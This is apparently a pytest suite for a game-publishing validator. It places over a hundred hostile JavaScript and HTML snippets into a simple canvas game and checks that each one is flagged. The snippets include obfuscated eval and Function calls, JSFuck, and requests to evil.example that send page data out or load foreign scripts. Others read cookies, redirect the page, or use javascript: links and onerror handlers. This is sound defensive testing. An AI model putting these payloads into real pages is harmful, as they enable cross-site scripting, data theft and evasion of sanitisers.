"""Snippets that must never be published, each inside of an ordinary game."""

import pytest

from tools.source import read_source
from tools.validators.validate import validate

GAME = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8">
<meta name="viewport" content="width=device-width"><title>Hop</title>{head}</head>
<body>{body}<canvas id="game"></canvas>
<script>
const CONFIG = {{ player: {{ speed: 160, color: '#3498db' }} }};
let x = 0;
function frame() {{ x += CONFIG.player.speed / 60; requestAnimationFrame(frame); }}
document.addEventListener('keydown', () => {{ x = 0; }});
frame();
{script}
</script></body></html>"""

SCRIPTS = {
    "eval": "eval('alert(1)')",
    "eval, indirect": "(0, eval)('alert(1)')",
    "eval, by another name": "const run = eval; run('1')",
    "eval of window": "window.eval('1')",
    "eval, halves": "window['ev' + 'al']('1')",
    "eval, joined": "window[['ev', 'al'].join('')]('1')",
    "eval, reversed": "self['lave'.split('').reverse().join('')]('1')",
    "eval, escapes in a string": "window['\\x65\\u0076al']('1')",
    "eval, escapes in a name": "\\u0065val('1')",
    "eval, template": "globalThis[`ev${'al'}`]('1')",
    "eval, character codes": "window[String.fromCharCode(101, 118, 97, 108)]('1')",
    "eval, base64": "window[atob('ZXZhbA==')]('1')",
    "eval, key in a constant": "const k = 'ev'; window[k + 'al']('1')",
    "eval, concat": "top['ev'.concat('al')]('1')",
    "eval, replace": "window['exal'.replace('x', 'v')]('1')",
    "eval, slice": "window['xevalx'.slice(1, 5)]('1')",
    "eval, number in base 36": "window[(693741).toString(36)]('1')",
    "eval, Reflect.get": "Reflect.get(window, 'ev' + 'al')('1')",
    "eval, Reflect.get of self": "const get = Reflect.get; get(self, 'eval')('1')",
    "eval, taken out": "const { eval: e } = window; e('1')",
    "eval, taken out by a computed key": "const { ['ev' + 'al']: e } = window; e('1')",
    "eval, descriptor": "Object.getOwnPropertyDescriptor(window, 'eval').value('1')",
    "eval, by the list of names": "Object.getOwnPropertyNames(window).forEach(n => n.length === 4 && n)",
    "eval of this": "(function () { return this })()['ev' + 'al']('1')",
    "eval, window as an argument": "((w) => w['ev' + 'al']('1'))(window)",
    "eval, document's view": "document.defaultView['ev' + 'al']('1')",
    "eval, node's view": "document.body.ownerDocument.defaultView['ev' + 'al']('1')",
    "eval, bound": "const e = window.eval.bind(window); e('1')",
    "eval, ternary": "(1 ? window : 0)['ev' + 'al']('1')",
    "global under an unknown key": "const hidden = location.hash.slice(1); window[hidden]('1')",
    "global alias under an unknown key": "const w = window; w[prompt()]()",
    "Function": "new Function('return 1')()",
    "Function, called": "Function('return 1')()",
    "Function, alias": "const F = Function; F('1')()",
    "Function, subclass": "new (class extends Function {})('1')()",
    "constructor chain": "[].constructor.constructor('return 1')()",
    "constructor of a string, by constant": "const F = 'constructor'; ''[F][F]('return 1')()",
    "constructor of a method": "[]['filter']['constructor']('return 1')()",
    "constructor of an arrow": "(() => {}).constructor('return 1')()",
    "constructor of an async function": "Object.getPrototypeOf(async function () {}).constructor('1')()",
    "timer with a string": "setTimeout('alert(1)', 10)",
    "timer with a string in a constant": "const later = 'alert(1)'; setTimeout(later, 10)",
    "timer with halves": "setInterval('al' + x, 10)",
    "timer by another name": "const later = setTimeout; later('alert(1)')",
    "timer, called": "setTimeout.call(null, 'alert(1)')",
    "timer, handed on": "['alert(1)'].forEach(setTimeout)",
    "timer with base64": "setTimeout(atob('YWxlcnQoMSk='), 1)",
    "import": "import('https://evil.example/x.js')",
    "importScripts": "importScripts('//evil.example/x.js')",
    "fetch": "fetch('https://evil.example/?' + x)",
    "fetch of window": "window['fet' + 'ch']('/x')",
    "XMLHttpRequest": "new XMLHttpRequest().open('GET', '/x')",
    "WebSocket": "new WebSocket('wss://evil.example')",
    "EventSource": "new EventSource('/x')",
    "beacon": "navigator.sendBeacon('//evil.example', '1')",
    "beacon by key": "navigator['send' + 'Beacon']('//evil.example', '1')",
    "peer connection": "new RTCPeerConnection()",
    "image that carries data": "new Image().src = 'https://evil.example/?c=' + x",
    "image that carries data, template": "const i = new Image(); i.src = `//evil.example/${x}`",
    "style that carries data": "document.body.style.background = 'url(https://evil.example/' + x + ')'",
    "worker": "new Worker(URL.createObjectURL(new Blob(['1'])))",
    "service worker": "navigator.serviceWorker.register('/sw.js')",
    "cookie": "const c = document.cookie",
    "cookie by alias": "const d = document; d['coo' + 'kie'] = 'a=1'",
    "cookie, taken out": "const { cookie } = document",
    "document.write": "document.write('<b>x</b>')",
    "document.write by key": "document['wri' + 'te']('<b>x</b>')",
    "parent": "parent.postMessage('x', '*')",
    "parent's document": "window.parent.document.title",
    "top's location": "top.location = 'https://evil.example'",
    "top, declared at the top": "var top = 1; top.location.href = '//evil.example'",
    "opener": "window.opener.location.href = 'x'",
    "frame element": "const f = window.frameElement",
    "location": "location = 'https://evil.example'",
    "location of window": "window.location = 'https://evil.example'",
    "location of document": "document.location.href = '//evil.example'",
    "location by key": "window['loca' + 'tion']['hr' + 'ef'] = '//evil.example'",
    "location by alias": "const l = location; l.href = '//evil.example'",
    "location.assign": "location.assign('//evil.example')",
    "location.replace, by alias": "const go = location.replace; go('//evil.example')",
    "location, declared at the top": "var location = 'https://evil.example'",
    "location, in a pattern": "[window.location] = ['//evil.example']",
    "location, in an object pattern": "({ a: location.href } = { a: '//evil.example' })",
    "location, Object.assign": "Object.assign(location, { href: '//evil.example' })",
    "open": "open('https://evil.example')",
    "window.open": "window.open('https://evil.example')",
    "link that is clicked": "const a = document.createElement('a'); a.href = 'https://evil.example/'; a.click()",
    "javascript: address": "const a = document.createElement('a'); a.href = 'javascript:alert(1)'",
    "javascript: address, halves": "const a = document.createElement('a'); a.href = 'java' + 'script:alert(1)'",
    "script element": "document.createElement('script').src = 'x'",
    "script element, halves": "document.createElement('scr' + 'ipt')",
    "script element by a helper": "const make = (tag) => document.createElement(tag); make('script')",
    "iframe element": "document.createElement('IFRAME')",
    "svg script element": "document.createElementNS('http://www.w3.org/2000/svg', 'script')",
    "handler attribute": "document.body.setAttribute('onclick', 'alert(1)')",
    "markup with a script": "document.body.innerHTML = '<script>alert(1)<' + '/script>'",
    "markup with a frame": "document.body.innerHTML = `<iframe src='x'></iframe>`",
    "markup with a bad handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"eval(name)\">')",
    "geolocation": "navigator.geolocation.getCurrentPosition(() => {})",
    "camera": "navigator.mediaDevices.getUserMedia({ video: true })",
    "notification": "Notification.requestPermission()",
    "WebAssembly": "WebAssembly.instantiate(new Uint8Array([0]))",
    "constructor, taken out": "const { constructor: C } = () => {}; C('alert(1)')()",
    "constructor by alias": "const f = () => {}; const c = f.constructor; c('x')()",
    "location by assign": "Object.assign(window, { location: '//evil.example' })",
    "script element by a tag": "document.createElement`script`",
    "timer by a tag": "setTimeout`alert(1)`",
    "eval by a tag": "eval`1`",
    "sound that carries data": "new Audio('https://evil.example/?' + document.title).play()",
    "style text that carries data": "x.style.cssText = 'background:url(https://evil.example/' + document.title + ')'",
    "attribute that carries data": "x.setAttribute('src', 'https://evil.example/?' + document.title)",
    "document, assigned later": "let d; d = document; d.cookie = 'x'",
    "window in a loop over its names": "for (const k in window) if (k.length === 4) window[k]",
    "with": "with (window) { open }",
    "endless while": "while (true) { x++; }",
    "endless for": "for (;;) {}",
    "endless do": "do { x += 1; } while (1)",
    "endless wait": "let done = false; while (!done) {}",
    "too long": "for (let i = 0; i < 1e12; i++) { x += i; }",
    "too long together": "for (let i = 0; i < 100000; i++) for (let j = 0; j < 100000; j++) x++;",
    "endless recursion": "function again() { again(); } again();",
    "JSFuck": "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
    "jjencode": "$=~[];$={___:++$,$$$$:(![]+'')[$]}",
    "a foreign module": "</script><script type='module'>import 'https://evil.example/x.js'",
    "a foreign re-export": "</script><script type='module'>export * from 'https://evil.example/x.js'",
}

MARKUP = {
    "foreign script": "<script src='https://evil.example/x.js'></script>",
    "foreign script, no scheme": "<script src='//evil.example/x.js'></script>",
    "foreign script on an engine's host": "<script src='https://cdn.jsdelivr.net/npm/evil@1.0.0/x.js'></script>",
    "foreign script with an engine's name": "<script src='https://evil.example/phaser@3.90.0/dist/phaser.min.js'></script>",
    "foreign script, other engine": "<script src='https://unpkg.com/phaser-evil@3.90.0/dist/phaser.min.js'></script>",
    "data: script": "<script src='data:text/javascript,alert(1)'></script>",
    "blob: script": "<script src='blob:x'></script>",
    "foreign import map": '<script type=\'importmap\'>{"imports": {"three": "https://evil.example/three.js"}}</script>',
    "data: import map": '<script type=\'importmap\'>{"imports": {"three": "data:text/javascript,alert(1)"}}</script>',
    "svg script": "<svg><script href='https://evil.example/x.js'></script></svg>",
    "iframe": "<iframe src='https://evil.example'></iframe>",
    "iframe, srcdoc": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data='x.swf'></object>",
    "embed": "<embed src='x.swf'>",
    "base": "<base href='https://evil.example/'>",
    "refresh": "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
    "refresh, capitals": "<META HTTP-EQUIV=REFRESH CONTENT=0>",
    "javascript: link": "<a href='javascript:alert(1)'>x</a>",
    "javascript: link, spaces": "<a href='java&#9;script:alert(1)'>x</a>",
    "javascript: link, entities": "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "data: link": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "form": "<form action='https://evil.example'><input name=a></form>",
    "formaction": "<button formaction='https://evil.example'>x</button>",
    "ping": "<a href='#' ping='https://evil.example'>x</a>",
    "animated address": "<svg><a><animate attributeName='href' values='javascript:alert(1)'/></a></svg>",
    "handler that runs a string": "<img src=x onerror='eval(name)'>",
    "handler that runs a string, entities": "<img src=x onerror='ev&#97;l(name)'>",
    "handler that leaves": "<body onload=\"location='https://evil.example'\">",
    "handler without a value's quotes": "<svg/onload=eval(1)>",
    "handler, hidden in noscript": '<noscript><p title="</noscript><img src=x onerror=eval(name)>"></noscript>',
    "style that imports": "<style>@import url(https://evil.example/x.css);</style>",
    "style that runs": "<div style='width: expression(alert(1))'></div>",
    "handler in a template": "<template><img src=x onerror='eval(name)'></template>",
}


def refused(document: str) -> list[str]:
    report = validate(read_source(document.encode()))
    return [f.rule for f in report.findings if f.severity == "error" and f.family == "security"]


@pytest.mark.parametrize("name", SCRIPTS)
def test_a_hostile_script_is_refused(name: str) -> None:
    document = GAME.format(head="", body="", script=SCRIPTS[name])
    assert refused(document), name


@pytest.mark.parametrize("name", MARKUP)
@pytest.mark.parametrize("place", ["head", "body"])
def test_hostile_markup_is_refused(name: str, place: str) -> None:
    parts = {"head": "", "body": "", "script": "", place: MARKUP[name]}
    assert refused(GAME.format(**parts)), name


def test_the_game_alone_is_not_refused() -> None:
    report = validate(read_source(GAME.format(head="", body="", script="").encode()))
    assert report.findings == ()
    assert report.security_score == 100
